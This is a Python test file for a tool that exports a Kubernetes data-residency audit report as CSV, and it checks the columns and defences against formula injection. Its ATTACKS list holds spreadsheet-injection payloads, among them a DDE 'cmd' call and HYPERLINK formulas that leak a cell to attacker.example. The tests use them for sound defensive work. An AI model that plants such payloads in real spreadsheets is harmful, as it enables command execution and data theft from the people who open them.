"""A report as CSV: any program reads it back, and no spreadsheet takes a cell for a formula."""

import csv
import io
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sovereign_operator.cli.answers.answer import Unread
from sovereign_operator.cli.answers.estate import Kept
from sovereign_operator.cli.answers.report import AuditReport
from sovereign_operator.cli.show.report_csv import COLUMNS, FORMULA, LONGEST, UNREAD, as_csv
from sovereign_operator.core.workload.owner import Owner
from tests.unit.cli.clusters import ALL, ARMOR, FACTS, POLICY, blind, estate
from tests.unit.cli.reports import hospital, pod, report

ATTACKS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://attacker.example?x="&A1,"see")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\x00=1+1",
    "\u202e=1+1",
    '","=1+1',
    "a\r\n=1+1",
    "\uff1d1+1",
    'a;=HYPERLINK("https://attacker.example","see")',
    "a; '=1+1",
    "a|@SUM(A1)",
    "a,+1",
)
TEXTS = st.one_of(st.sampled_from(ATTACKS), st.text(max_size=40))


def rows_of(answer: AuditReport) -> list[dict[str, str]]:
    """Read a report back as programs do."""
    return list(csv.DictReader(io.StringIO(as_csv(answer), newline="")))


def test_a_row_says_where_pods_run_and_on_what_basis() -> None:
    rows = rows_of(hospital())
    assert [(row["workload"], row["place"], row["datacentre"], row["pods"]) for row in rows] == [
        ("Cluster/archive", "inside", "brest", "1"),
        ("Cluster/archive", "outside", "paris", "1"),
        ("Deployment/records", "inside", "brest", "2"),
    ]
    assert {
        "country": "FR",
        "provider": "Armor Cloud SNC Platform",
        "evidence": "Declared",
        "decisions": "EX-101",
        "validUntil": "2031-06-15",
        "foreignLaws": "none",
        "nodes": "brest-1; lyon-1",
        "sovereignWorkload": "records",
        "cluster": "c0ffee00-0000-4000-8000-000000000000",
        "at": "2030-06-15T12:00:00Z",
        "askedBy": "auditor",
        "guards": "intact",
        "unread": "",
    }.items() <= rows[2].items()
    assert "has no SecNumCloud qualification" in rows[1]["message"]


def test_each_row_names_what_could_not_be_read() -> None:
    (row,) = rows_of(report(pod(), unread=[Unread("nodes", "", "", "no"), Unread("namespaces", "", "kube-system", "")]))
    assert row["unread"] == "list nodes; get namespaces kube-system"


def test_without_a_workload_one_row_says_why() -> None:
    refused = [Unread("pods", "", "", "no")]
    (unread,), (none,) = rows_of(report(pods=None, unread=refused)), rows_of(report())
    assert (unread["message"], unread["unread"]) == ("where pods run could not be read", "list pods")
    assert (none["message"], none["unread"]) == ("no pod is judged by a policy", "")
    assert unread["workload"] == none["workload"] == ""
    assert unread["cluster"] == none["cluster"] != ""


def test_the_pods_without_a_sidecar_are_not_0_where_it_is_not_known_who_needs_one() -> None:
    (known,) = rows_of(report(pod()))
    (unknown,) = rows_of(report(pod(), found=blind()))
    assert (known["plaintextPods"], unknown["plaintextPods"]) == ("0", "")


RECORDED = {
    "policy": POLICY,
    "verdict": "accepted: brest, SecNumCloud",
    "datacentre": "brest",
    "service": "armor-snc",
    "qualification": "SecNumCloud 3.2 (decision EX-101), until 2031-06-15",
}
FACTS_OF = ("provider", "country", "foreignLaws")
BASIS_OF = ("decisions", "validUntil", "derogations")


def test_what_may_not_be_read_of_a_place_says_so() -> None:
    (row,) = rows_of(report(pod(recorded=RECORDED), found=blind()))
    assert {row[column] for column in (*FACTS_OF, *BASIS_OF)} == {UNREAD}
    assert (row["datacentre"], row["legalBasis"]) == ("brest", RECORDED["qualification"])
    (facts_alone,) = rows_of(report(pod(recorded=RECORDED), found=estate(known=ALL - {Kept.NODES})))
    assert [facts_alone[column] for column in FACTS_OF] == ["Armor Cloud SNC Platform", "FR", "none"]
    assert {facts_alone[column] for column in BASIS_OF} == {UNREAD}
    (pending,) = rows_of(report(pod(node=None), found=blind()))
    assert {pending[column] for column in (*FACTS_OF, *BASIS_OF)} == {""}


def test_laws_that_nobody_recorded_are_not_known() -> None:
    services = {**FACTS.services, "armor-snc": ARMOR.model_copy(update={"foreign_laws": None})}
    (row,) = rows_of(report(pod(), found=estate(replace(FACTS, services=services))))
    assert row["foreignLaws"] == "not known"


def attacked(text: str) -> AuditReport:
    """Return a report in which others wrote the same text wherever they may write any."""
    answer = report(pod("a", owner=Owner("x/v1", "X", text), waiting=text), pod("b", text or "n"))
    rows = tuple(
        replace(
            row,
            namespace=text,
            workload=text,
            sovereign_workload=text,
            message=text,
            places=tuple(
                replace(place, why=text, basis=(text, text), provider=text, derogations=(text,)) for place in row.places
            ),
        )
        for row in answer.workloads or ()
    )
    asked = replace(answer.asked_by, user=text)
    return replace(answer, workloads=rows, cluster=text, asked_by=asked, unread=(Unread(text, text, text, text),))


@pytest.mark.parametrize("text", ATTACKS)
def test_no_attack_becomes_a_formula(text: str) -> None:
    check(text)


@given(TEXTS)
def test_no_text_becomes_a_formula_or_a_cell_of_its_own(text: str) -> None:
    check(text)


def check(text: str) -> None:
    shown = as_csv(attacked(text))
    records = list(csv.reader(io.StringIO(shown, newline="")))
    assert shown.count("\r\n") == len(records) == len(shown.splitlines())
    assert len(records) == 3
    for record in records:
        assert len(record) == len(COLUMNS)
        for cell in record:
            assert not cell.startswith((*FORMULA, " ", "\t"))
            assert cell == "" or cell.isprintable()
    # Read by a program that takes another separator, as Excel does in French.
    for separator in ";\t|":
        for record in csv.reader(io.StringIO(shown, newline=""), delimiter=separator):
            assert not any(cell.lstrip(' "').startswith(FORMULA) for cell in record)


def test_a_cell_is_no_longer_than_a_spreadsheet_takes() -> None:
    assert max(len(cell) for row in rows_of(attacked("x" * 40_000)) for cell in row.values()) == LONGEST


def test_text_that_is_harmless_stays_as_it_is() -> None:
    (row,) = rows_of(report(pod(owner=Owner("v1", "Élan", 'a "quoted", name'))))
    assert (row["workload"], row["policy"]) == ('Élan/a "quoted", name', POLICY)
